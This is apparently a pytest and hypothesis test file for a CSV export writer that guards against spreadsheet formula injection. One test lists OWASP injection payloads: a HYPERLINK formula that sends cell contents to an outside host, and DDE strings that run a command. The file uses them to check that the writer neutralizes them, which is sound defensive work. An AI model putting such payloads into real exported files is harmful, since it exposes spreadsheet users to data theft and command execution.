"""Export cells: no text a spreadsheet would run as a formula, everything else as it was."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from imagestudio.exports.cells import FORMULA_STARTS, SafeWriter, neutralized


def read_back(rows, raw=False, lineterminator="\r\n"):
    stream = io.StringIO()
    SafeWriter(stream, raw=raw, lineterminator=lineterminator).writerows(rows)
    return list(csv.reader(io.StringIO(stream.getvalue(), newline="")))


def test_the_owasp_examples_are_neutralized():
    attacks = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
               "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
    assert read_back([attacks]) == [["'" + a for a in attacks]]
    assert read_back([attacks], raw=True) == [attacks]


@pytest.mark.parametrize("lineterminator", ["\r\n", "\n"])  # the exports end lines as Postgres's COPY does: "\n"
@given(rows=st.lists(st.lists(st.text(), min_size=1, max_size=8), min_size=1, max_size=3))
def test_text_cells_come_back_neutralized_and_otherwise_unchanged(lineterminator, rows):
    written = read_back(rows, lineterminator=lineterminator)
    assert written == [[neutralized(cell) for cell in row] for row in rows]
    for cell, original in zip(written[0], rows[0], strict=True):
        assert cell == original or cell == "'" + original
        assert not cell.startswith(FORMULA_STARTS) or neutralized(cell) == cell  # only numbers may start so


def test_plain_numbers_stay_numbers():
    assert [neutralized(v) for v in ("-3", "+1.5e3", "-0.25", "7")] == ["-3", "+1.5e3", "-0.25", "7"]
    assert neutralized("-inf") == "'-inf" and neutralized("-3 apples") == "'-3 apples"
